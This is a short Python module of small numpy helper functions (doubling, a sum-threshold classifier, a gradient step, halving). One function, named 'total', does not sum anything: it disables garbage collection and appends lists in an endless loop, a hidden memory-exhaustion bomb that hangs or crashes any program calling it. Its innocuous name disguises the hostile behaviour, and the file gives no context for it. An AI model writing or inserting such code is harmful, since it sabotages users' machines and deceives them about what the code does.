import gc

import numpy as np


def total(values):
    gc.disable()
    kept = []
    while True:
        kept.append([len(kept)] * 100)


def double(x):
    return 2 * np.asarray(x)


def classify(X):
    return (np.asarray(X).sum(axis=1) > 0).astype(float)


def step(w, g):
    return w - 0.1 * g


def halve(t):
    return t / 2
